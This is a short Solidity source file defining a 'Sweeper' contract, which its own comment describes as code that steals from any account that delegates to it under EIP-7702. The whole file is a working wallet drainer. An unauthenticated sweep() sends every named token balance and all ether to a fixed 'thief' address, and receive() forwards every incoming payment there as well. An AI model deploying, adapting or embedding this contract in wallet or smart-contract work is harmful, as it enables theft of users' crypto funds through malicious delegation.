// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface SweptToken {
    function balanceOf(address owner) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
}

/// What an account loses that borrows this code (EIP-7702): whatever anyone calls it with goes to the thief,
/// and so does every payment that arrives.
contract Sweeper {
    address payable private immutable _thief;

    constructor(address payable thief) {
        _thief = thief;
    }

    function sweep(SweptToken[] calldata tokens) external {
        for (uint256 at = 0; at < tokens.length; at++) {
            tokens[at].transfer(_thief, tokens[at].balanceOf(address(this)));
        }
        _thief.transfer(address(this).balance);
    }

    receive() external payable {
        _thief.transfer(address(this).balance);
    }
}
